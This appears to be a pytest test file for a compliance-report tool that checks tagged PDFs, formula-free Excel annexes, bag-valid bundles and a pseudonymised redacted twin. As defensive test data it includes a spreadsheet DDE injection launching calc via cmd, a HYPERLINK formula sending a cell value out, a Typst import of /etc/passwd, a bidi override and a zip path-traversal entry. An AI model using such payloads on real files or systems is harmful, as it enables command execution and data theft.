"""The report's forms and bundles as bytes: tagged PDF, a workbook without formulas, a valid bag, a twin that names nobody."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import bagit
import openpyxl
import pdfplumber
import pikepdf
import pypdfium2
import pytest

from cases import Case, analyze_folder
from cases.analysis import Analysis
from cases.bundle import Choices, redacted, write_bundle
from cases.bundle_check import check_bundle
from cases.evidence import open_records
from cases.forms import write_form
from cases.redaction_key import KEY
from compliance.report import Report, render_html
from compliance.report.glyphs import covered, written
from compliance.report.pdf import render_pdf
from compliance.report.redact import FEWEST, Redactor
from compliance.report.words import WORDS
from compliance.report.workbook import risky, write_workbook
from intake.text import LANGUAGES, Language, Text

PEOPLE = 24
FULL, TWIN = False, True
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"x")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
NAMES = ("Farida Qasimova-Held", "يوسف المنذري", "Tobias Grünwaldt")
HOSTILE = Text(
    en='#import "/etc/passwd" \\ $x$ *b* _i_ <lab> @ref [c] // no `raw` ' + "w" * 90 + " 中",
    ar='#eval("1") عنوان $س$ [أ] @م <تسمية> \u202etxt ' + "ط" * 70,
)


@pytest.fixture(scope="module")
def analysis(tmp_path_factory: pytest.TempPathFactory) -> Analysis:
    """A small company: ids that occur nowhere else, names in two scripts, cells that a spreadsheet would run."""
    folder = tmp_path_factory.mktemp("company") / "Farida files"
    folder.mkdir()
    members, orders, payouts = [], [], []
    for n in range(PEOPLE):
        sponsor = f"MBR-{(n - 1) // 3:04d}X" if n else ""
        country = "EG" if n > 3 else "KW"
        members.append(f'MBR-{n:04d}X,{sponsor},2024-{1 + n % 6:02d}-0{1 + n % 8},"{NAMES[n % 3]} {n:02d}",{country}')
        product = FORMULA.replace('"', '""') if n == 3 else f"Kit {n}"
        orders.append(f'ORD-{n:04d}Q,2024-{1 + n % 6:02d}-15,MBR-{n:04d}X,"{product}",{120 + n}.50,EGP')
        if n:
            component = COMMAND if n == 2 else "direct"
            payouts.append(f'PAY-{n:04d}Z,2024-0{1 + n % 6}-28,{sponsor},"{component}",{30 + n}.25,EGP,ORD-{n:04d}Q')
    heads = {
        "members.csv": ("member_id,sponsor_id,joined,name,country", members),
        "orders.csv": ("order_id,date,buyer_id,product,amount,currency", orders),
        "payouts.csv": ("payout_id,date,participant_id,component,amount,currency,source_order_id", payouts),
    }
    for name, (head, rows) in heads.items():
        (folder / name).write_text("\n".join([head, *rows]) + "\n", encoding="utf-8")
    made = analyze_folder(folder, folder.parent / "small.case")
    assert {file.table for file in made.report.files} == {"participants", "orders", "payouts"}
    return made


@pytest.fixture(scope="module")
def packed(analysis: Analysis, tmp_path_factory: pytest.TempPathFactory) -> Callable[[bool], Path]:
    """The full bundle or its twin, made once each."""
    home = tmp_path_factory.mktemp("bundles")

    def make(twin: bool) -> Path:
        path = home / f"{twin}.zip"
        if not path.exists():
            write_bundle(analysis, path, Choices(redacted=twin))
        return path

    return make


def hostile(report: Report) -> Report:
    """The report with a title and remarks that look like Typst, HTML and bidirectional tricks."""
    return report.model_copy(update={"title": HOSTILE, "about": HOSTILE, "limits": (HOSTILE,), "notes": (HOSTILE,)})


# PDF


def inside(bundle: Path, ending: str) -> bytes:
    """A file of a bundle."""
    with zipfile.ZipFile(bundle) as archive:
        return archive.read(next(one for one in archive.namelist() if one.endswith(ending)))


@pytest.mark.parametrize("language", LANGUAGES)
def test_pdf_is_tagged_for_archives_and_carries_its_fonts(packed: Callable[[bool], Path], language: Language) -> None:
    with pikepdf.open(BytesIO(inside(packed(FULL), f"report.{language}.pdf"))) as pdf:
        root = pdf.Root
        assert str(root.Lang) == language
        assert bool(root.MarkInfo.Marked)
        assert "/K" in root.StructTreeRoot
        roles = {str(one.S) for one in pdf.objects if isinstance(one, pikepdf.Dictionary) and one.get("/S")}
        assert {"/Table", "/TH", "/TD", "/H1", "/H2", "/Figure", "/Link"} <= roles
        with pdf.open_metadata() as meta:
            assert (meta["pdfaid:part"], meta["pdfaid:conformance"], meta["pdfuaid:part"]) == ("3", "A", "1")
        fonts = [
            one for one in pdf.objects if isinstance(one, pikepdf.Dictionary) and one.get("/Type") == "/FontDescriptor"
        ]
        assert fonts
        assert all("/FontFile2" in one or "/FontFile3" in one for one in fonts)
        if language == "ar":
            assert any("Arabic" in str(one.FontName) for one in fonts)


def test_arabic_text_of_a_pdf_reads_in_logical_order(packed: Callable[[bool], Path]) -> None:
    """Glyphs stand from left to right in the file; read from the right they are words of real letters, digits in order."""
    with pdfplumber.open(BytesIO(inside(packed(FULL), "report.ar.pdf"))) as pdf:
        letters = pdf.pages[0].chars
    lines: dict[int, list[dict[str, Any]]] = {}
    for one in letters:
        lines.setdefault(round(one["top"] / 4), []).append(one)
    read = [
        "".join(one["text"] for one in sorted(line, key=lambda one: -one["x0"])).replace("\u2066", " ")
        for line in lines.values()
    ]
    text = re.sub(r"\s+", " ", " ".join(read))
    assert WORDS["contents"].ar in text
    assert WORDS["first_screen"].ar.split()[1][:3] in text
    assert not re.search(r"[\ufb50-\ufdff\ufe70-\ufefe]", text)  # no presentation forms


def test_nothing_from_a_company_is_read_as_markup(analysis: Analysis) -> None:
    report = hostile(analysis.report)
    with pdfplumber.open(BytesIO(render_pdf(report, "en"))) as pdf:
        letters = [(one, page.width) for page in pdf.pages[:2] for one in page.chars]
    assert all(one["x1"] <= width + 0.5 and one["x0"] >= -0.5 for one, width in letters)
    text = "".join(one["text"] for one, _ in letters).replace("\u200b", "")
    assert '#import "/etc/passwd" \\ $x$ *b* _i_ <lab> @ref [c] //' in text
    assert "[U+4E2D]" in text
    for language in LANGUAGES:
        html = render_html(report, language)
        assert "<lab>" not in html
        assert "<تسمية>" not in html


def test_what_no_font_covers_is_written_by_its_code() -> None:
    fonts = Path(__file__).resolve().parents[2] / "compliance" / "report" / "fonts"
    known = covered(fonts)
    assert {"é", "Ж", "ش", "٣", "÷", "…"} <= known
    assert written("شركة 中 é\u202e", known) == "شركة [U+4E2D] é[U+202E]"


# The workbook


@pytest.fixture(scope="module")
def workbook(analysis: Analysis, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The evidence annex in both languages, read back."""
    home = tmp_path_factory.mktemp("annex")
    books = {}
    for language in LANGUAGES:
        write_form(analysis, "xlsx", language, home / f"{language}.xlsx")
        books[language] = openpyxl.load_workbook(home / f"{language}.xlsx")
    yield books
    for book in books.values():
        book.close()


def test_the_annex_has_every_row_with_file_and_line(analysis: Analysis, workbook: dict[str, Any]) -> None:
    book = workbook["en"]
    measured = {one.id: one for one in analysis.measurements if one.evidence is not None and one.measurable}
    sheets = {sheet.title[4:]: sheet for sheet in book.worksheets if re.match(r"\d{3} ", sheet.title)}
    assert len(sheets) == len(measured)
    for id_, measurement in measured.items():
        sheet = sheets[id_[:27]]
        assert measurement.evidence is not None
        rows = list(sheet.iter_rows(min_row=8, values_only=True))
        assert len(rows) == measurement.evidence.count
        heads = [cell.value for cell in sheet[7]]
        if rows and {"id", "order_id", "participant_id"} & set(heads):
            assert heads[:2] == ["source_file", "source_line"]
            assert all(row[0] in ("members.csv", "orders.csv", "payouts.csv") and row[1] >= 2 for row in rows if row[2])


def test_no_cell_is_a_formula_and_risky_ones_carry_the_quote(workbook: dict[str, Any]) -> None:
    found = set()
    for book in workbook.values():
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and risky(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
                        found.add(cell.value)
    assert {FORMULA, COMMAND} <= found


def test_arabic_sheets_run_from_right_to_left_and_the_index_leads_to_each(workbook: dict[str, Any]) -> None:
    assert all(sheet.sheet_view.rightToLeft for sheet in workbook["ar"].worksheets)
    assert not any(sheet.sheet_view.rightToLeft for sheet in workbook["en"].worksheets)
    for book in workbook.values():
        index = book.worksheets[0]
        links = [cell.hyperlink for row in index.iter_rows() for cell in row if cell.hyperlink]
        targets = {link.location.split("!")[0].strip("'") for link in links}
        assert {sheet.title for sheet in book.worksheets[1:]} == targets


def test_a_full_sheet_goes_on_in_the_next_and_a_limit_is_said(analysis: Analysis, tmp_path: Path) -> None:
    path = tmp_path / "split.xlsx"
    with open_records(analysis) as records:
        write_workbook(analysis.report, records, path, "en", most=20, sheet_rows=15)
    book = openpyxl.load_workbook(path)
    parts = [sheet for sheet in book.worksheets if sheet.title.endswith("headcount")]
    assert len(parts) == 3  # 8 rows a sheet
    assert [sheet.max_row - 7 for sheet in parts] == [8, 8, 4]
    said = WORDS["left_out"].en.format(left=PEOPLE - 20, count=PEOPLE, most=20)
    assert all(sheet["A4"].value == said for sheet in parts)
    index = {row[1]: row[3:5] for row in book.worksheets[0].iter_rows(min_row=5, values_only=True)}
    assert (PEOPLE, 20) in index.values()


# Bundles


def test_the_bundle_is_a_valid_bag(analysis: Analysis, packed: Callable[[bool], Path], tmp_path: Path) -> None:
    with zipfile.ZipFile(packed(FULL)) as archive:
        archive.extractall(tmp_path)
        names = {name.partition("/")[2] for name in archive.namelist()}
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert {f"data/report/report.{one}.{kind}" for one in LANGUAGES for kind in ("html", "pdf")} <= names
    assert {f"data/evidence/evidence.{one}.xlsx" for one in LANGUAGES} <= names
    assert {f"data/certificate/certificate.{one}.pdf" for one in LANGUAGES} <= names
    assert not any(name.startswith("data/snapshot/") for name in names)
    bag = bagit.Bag(str(next(tmp_path.iterdir())))
    assert bag.is_valid()
    tools = json.loads(inside(packed(FULL), "/bundle.json"))["tools"]
    with pikepdf.open(BytesIO(inside(packed(FULL), "report.en.pdf"))) as pdf:
        assert str(pdf.docinfo.Creator) == f"Typst {tools['typst']}"
    assert check_bundle(packed(FULL)) == check_bundle(next(tmp_path.iterdir())) == []


def test_the_bundle_may_hold_the_snapshot_and_is_the_same_each_time(analysis: Analysis, tmp_path: Path) -> None:
    path = tmp_path / "whole.zip"
    write_bundle(analysis, path, Choices(("en",), snapshot=True, rows=5))
    assert check_bundle(path) == []
    again = tmp_path / "again.zip"
    write_bundle(analysis, again, Choices(("en",), snapshot=True, rows=5))
    assert again.read_bytes() == path.read_bytes()
    with zipfile.ZipFile(path) as archive:
        inside = {name.partition("/data/snapshot/")[2] for name in archive.namelist()}
    assert {"manifest.json", "participants.parquet", "orders.parquet"} <= inside
    with pytest.raises(ValueError, match="ids and names"):
        write_bundle(analysis, path, Choices(redacted=True, snapshot=True))


def test_a_changed_missing_or_added_file_of_a_bundle_is_found(packed: Callable[[bool], Path], tmp_path: Path) -> None:
    with zipfile.ZipFile(packed(TWIN)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    root = next(iter(files)).partition("/")[0]
    report, extra = f"{root}/data/report/report.json", f"{root}/data/more.txt"
    changes: dict[str, tuple[dict[str, bytes], str, str]] = {
        "changed": (files | {report: files[report].replace(b"0", b"1", 1)}, "changed", "data/report/report.json"),
        "missing": ({k: v for k, v in files.items() if k != report}, "missing", "data/report/report.json"),
        "added": (files | {extra: b"x"}, "unexpected", "data/more.txt"),
        "leading out": (files | {f"{root}/../../evil.txt": b"x"}, "outside", f"{root}/../../evil.txt"),
    }
    for name, (content, code, path) in changes.items():
        crafted = tmp_path / f"{name}.zip"
        with zipfile.ZipFile(crafted, "w") as archive:
            for member, data in content.items():
                archive.writestr(member, data)
        assert (code, path) in {(fault.code, fault.path) for fault in check_bundle(crafted)}


# The redacted twin


def readable(name: str, data: bytes) -> str:
    """Everything that can be read in a file of the bundle."""
    if name.endswith(".pdf"):
        pages = pypdfium2.PdfDocument(data)
        letters = "".join(page.get_textpage().get_text_bounded() for page in pages)
        letters = re.sub(r"[\s\u200b\u2066-\u2069\ufffe]", "", letters)
        return letters + letters[::-1]  # Arabic may stand backwards, ids beside it in pieces
    if name.endswith(".xlsx"):
        with zipfile.ZipFile(BytesIO(data)) as archive:
            return "".join(archive.read(one).decode("utf-8") for one in archive.namelist())
    return data.decode("utf-8")


def test_no_id_name_or_file_name_is_left_in_the_twin(packed: Callable[[bool], Path]) -> None:
    secret = re.compile(
        r"MBR-\d{4}X|ORD-\d{4}Q|PAY-\d{4}Z|X-\d{4}MBR|Q-\d{4}ORD|Z-\d{4}PAY|Farida|Qasimova|يوسف|المنذري|Tobias|Grünwaldt|members\.csv|orders\.csv|payouts\.csv|cmd\|"
    )
    for twin in (False, True):
        found = set()
        with zipfile.ZipFile(packed(twin)) as archive:
            for name in archive.namelist():
                text = readable(name, archive.read(name))
                found |= {(name.rpartition("/")[2], hit) for hit in secret.findall(text) + secret.findall(name)}
        if twin:
            assert not found
        else:  # the search itself finds what is there
            assert {file for file, _ in found} >= {"report.en.html", "report.ar.pdf", "evidence.en.xlsx", "report.json"}


def test_every_figure_of_the_twin_is_that_of_the_report(analysis: Analysis) -> None:
    twin, _ = redacted(analysis)
    report = analysis.report
    assert [one.id for one in twin.measurements] == [one.id for one in report.measurements]
    for was, now in zip(report.measurements, twin.measurements, strict=True):
        assert (was.value, was.numerator, was.denominator, was.interval) == (
            now.value,
            now.numerator,
            now.denominator,
            now.interval,
        )
        for before, after in zip(was.variants, now.variants, strict=True):
            assert (before.value, before.numerator, before.denominator) == (
                after.value,
                after.numerator,
                after.denominator,
            )
        for old, new in zip(was.series, now.series, strict=True):
            for point, kept in zip(old.points, new.points, strict=True):
                assert kept.value is None or (kept.value, kept.numerator) == (point.value, point.numerator)
    for was_found, now_found in zip(report.findings, twin.findings, strict=True):
        assert (was_found.id, was_found.state, was_found.value, was_found.margin) == (
            now_found.id,
            now_found.state,
            now_found.value,
            now_found.margin,
        )
    same = report.overview.model_copy(update={"largest_recruiters": ()})
    assert twin.overview.model_copy(update={"largest_recruiters": ()}) == same


def test_the_twins_rows_keep_figures_and_agree_with_each_other(
    analysis: Analysis, packed: Callable[[bool], Path]
) -> None:
    """A person has one pseudonym in every sheet; amounts and dates are those of the full annex."""
    books = []
    for twin in (False, True):
        with zipfile.ZipFile(packed(twin)) as archive:
            name = next(one for one in archive.namelist() if one.endswith("evidence.en.xlsx"))
            books.append(openpyxl.load_workbook(BytesIO(archive.read(name))))
    pairs: dict[str, set[str]] = {}
    for full, twin_sheet in zip(books[0].worksheets[4:], books[1].worksheets[4:], strict=True):
        assert full.title == twin_sheet.title
        for before, after in zip(full.iter_rows(min_row=8), twin_sheet.iter_rows(min_row=8), strict=True):
            for was, now in zip(before, after, strict=True):
                if isinstance(was.value, str) and re.match("MBR|ORD|PAY", was.value):
                    pairs.setdefault(was.value, set()).add(now.value)
                elif not isinstance(was.value, str):
                    assert was.value == now.value
    assert len(pairs) >= PEOPLE
    assert all(len(names) == 1 for names in pairs.values())
    assert len({next(iter(names)) for names in pairs.values()}) == len(pairs)


def test_small_groups_are_not_shown(analysis: Analysis) -> None:
    """Four people are of one country: too few, and the other country is hidden with it, or a difference would tell."""
    twin, maker = redacted(analysis)
    series = [one for measured in twin.measurements for one in measured.series if one.axis == "country"]
    assert any(len(one.points) > 1 for one in series)
    for one in series:
        if len(one.points) > 1:
            assert all(point.value is None for point in one.points)
            assert one.note is not None
            assert WORDS["suppressed"].en in one.note.en
        assert all(point.value is None for point in one.points if point.x in ("KW", "*"))
    assert maker.cell("country", "KW") == "*"
    assert maker.cell("country", "EG") == "EG"
    assert FEWEST > 4


def test_pseudonyms_need_the_cases_own_key(analysis: Analysis) -> None:
    with open_records(analysis) as records:
        one, other = (Redactor.of(analysis.report, records, key) for key in (b"a" * 32, b"b" * 32))
        assert one.pseudonym("MBR-0001X") == one.pseudonym("MBR-0001X") != other.pseudonym("MBR-0001X")
        assert one.cell("note", "free words") != "free words"  # a column that nobody thought of
        assert one.cell("side", "participant") == "participant"
        assert one.cell("name", NAMES[0]) is None


def test_the_key_stays_in_the_case_and_is_watched(analysis: Analysis, packed: Callable[[bool], Path]) -> None:
    packed(TWIN)
    case = Case.open(analysis.case.folder)
    key = case.folder / KEY
    assert case.verify() == []
    content = key.read_bytes()
    with zipfile.ZipFile(packed(TWIN)) as archive:
        assert not any(content.strip() in archive.read(name) for name in archive.namelist())
    key.chmod(0o600)
    key.write_bytes(b"0" * 64 + b"\n")
    try:
        assert [(fault.code, fault.path) for fault in case.verify()] == [("changed", KEY)]
    finally:
        key.write_bytes(content)
        key.chmod(0o400)


def test_json_carries_its_version_and_can_be_read_again(analysis: Analysis, tmp_path: Path) -> None:
    write_form(analysis, "json", "en", tmp_path / "report.json")
    data = (tmp_path / "report.json").read_bytes()
    assert json.loads(data)["form"] == analysis.report.form
    assert Report.model_validate_json(data) == analysis.report
